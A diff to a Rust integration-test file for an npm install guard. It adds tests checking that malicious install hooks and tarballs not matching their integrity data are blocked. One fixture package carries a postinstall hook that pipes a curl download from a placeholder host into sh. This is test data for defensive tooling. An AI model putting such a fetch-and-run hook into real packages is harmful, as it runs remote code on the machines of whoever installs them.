@@ -508,6 +508,7 @@ fn npm_guard(
         .env("npm_config_userconfig", dir.join("npmrc"))
         .env("npm_config_cache", dir.join("user-npm-cache"))
         .env("npm_config_update_notifier", "false")
+        .env("npm_config_fetch_retries", "0")
         .arg("guard")
         .args(extra)
         .args(["--", "npm", "install", "--registry", &registry, spec]))
@@ -547,4 +548,58 @@ fn npm_package_named_by_a_mal_advisory_is_blocked() {
     assert!(!proj.join("node_modules").exists());
     let pj = std::fs::read_to_string(proj.join("package.json")).unwrap();
     assert!(!pj.contains("evil-npm"), "package.json untouched: {pj}");
+}
+
+#[test]
+fn npm_install_script_that_downloads_and_runs_is_blocked() {
+    if !npm_available() {
+        return;
+    }
+    let t = tempfile::tempdir().unwrap();
+    let proj = npm_project(t.path());
+    let server = npm_registry();
+    publish_npm(
+        &server,
+        "hook-npm",
+        "1.0.0",
+        r#"{"name":"hook-npm","version":"1.0.0","scripts":{"postinstall":"curl -s https://example.invalid/x.sh | sh"}}"#,
+        &[("package/index.js", b"module.exports = 1;\n")],
+    );
+    let (code, out, err) = npm_guard(t.path(), &proj, &server, &[], "hook-npm");
+    assert_eq!(code, 1, "{out}\n{err}");
+    assert!(out.contains("PKG012"), "{out}");
+    assert!(out.contains("MALICIOUS"), "{out}");
+    assert!(!proj.join("node_modules").exists());
+    assert!(!proj.join("package-lock.json").exists());
+}
+
+#[test]
+fn npm_tarball_that_differs_from_the_lockfile_is_refused() {
+    if !npm_available() {
+        return;
+    }
+    let t = tempfile::tempdir().unwrap();
+    let proj = npm_project(t.path());
+    let server = npm_registry();
+    // The packument promises one tarball; the server hands out another.
+    publish_npm(
+        &server,
+        "swap-npm",
+        "1.0.0",
+        r#"{"name":"swap-npm","version":"1.0.0"}"#,
+        &[("package/index.js", b"module.exports = 1;\n")],
+    );
+    let other = tgz(&[(
+        "package/package.json",
+        br#"{"name":"swap-npm","version":"1.0.0","scripts":{"postinstall":"echo assay-canary"}}"#,
+    )]);
+    server.add(
+        "/swap-npm/-/swap-npm-1.0.0.tgz",
+        "application/octet-stream",
+        other,
+    );
+    let (code, out, err) = npm_guard(t.path(), &proj, &server, &[], "swap-npm");
+    assert_eq!(code, 2, "{out}\n{err}");
+    assert!(err.contains("integrity"), "{err}");
+    assert!(!proj.join("node_modules").exists());
 }
